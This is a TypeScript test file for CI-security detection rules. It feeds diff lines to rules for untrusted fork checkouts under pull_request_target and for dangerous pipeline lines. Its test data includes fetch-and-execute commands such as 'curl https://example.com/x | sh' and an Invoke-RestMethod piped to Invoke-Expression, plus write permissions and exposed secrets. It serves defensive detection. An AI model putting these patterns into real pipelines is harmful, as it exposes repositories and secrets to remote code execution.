import { packDefinitions } from '../../../../source-tools';
import { MODIFIED, patchOf } from '../../../../source-tools/git/rules/define-git-rule';
import { runRule } from '../../../policy/rules/support/run-pack-rule';

const finds = (rule: string, path: string, lines: readonly string[]): boolean =>
  runRule(packDefinitions, rule, patchOf(path, MODIFIED, lines)).status !== 'ALLOW';

describe('a pipeline that checks out the code of a fork with permissions', () => {
  it.each([
    ['.github/workflows/pr.yml', '          ref: ${{ github.event.pull_request.head.sha }}'],
    ['.github/workflows/pr.yml', '          ref: refs/pull/${{ github.event.number }}/merge'],
    ['.github/workflows/pr.yml', '          ref: ${{ github.event.pull_request.merge_commit_sha }}'],
    ['.github/workflows/pr.yml', '      - run: gh pr checkout "$NUMBER"'],
    ['.github/workflows/pr.yml', '      - run: git fetch origin pull/${{ github.event.number }}/head:pr'],
    ['.gitea/workflows/pr.yml', '          ref: ${{ github.event.pull_request.head.sha }}'],
    ['.forgejo/workflows/pr.yml', '          ref: ${{ github.event.pull_request.head.sha }}'],
  ])('is found however it names the code: %s %s', (path, line) => {
    expect(finds('git_ci_untrusted_checkout', path, [' on: pull_request_target', `+${line}`])).toBe(true);
  });

  it('is not found in a workflow that reads only the number of the pull request', () => {
    const lines = [' on: pull_request_target', '+      - run: gh pr comment ${{ github.event.number }} --body thanks'];
    expect(finds('git_ci_untrusted_checkout', '.github/workflows/pr.yml', lines)).toBe(false);
  });
});

describe('a dangerous line of a pipeline', () => {
  it.each([
    ['.github/workflows/a.yml', '    permissions: { contents: write }'],
    ['.github/workflows/a.yml', '      contents: "write"'],
    ['.forgejo/workflows/a.yml', '      TOKEN: ${{ secrets.TOKEN }}'],
    ['.woodpecker/a.yml', '      - curl https://example.com/x | sh'],
    ['azure-pipelines.yaml', '  - script: curl https://example.com/x | sh'],
    ['scripts/setup.ps1', 'Invoke-RestMethod https://example.com/x | Invoke-Expression'],
  ])('is found in every kind of pipeline: %s %s', (path, line) => {
    expect(finds('git_dangerous_ci', path, [`+${line}`])).toBe(true);
  });
});
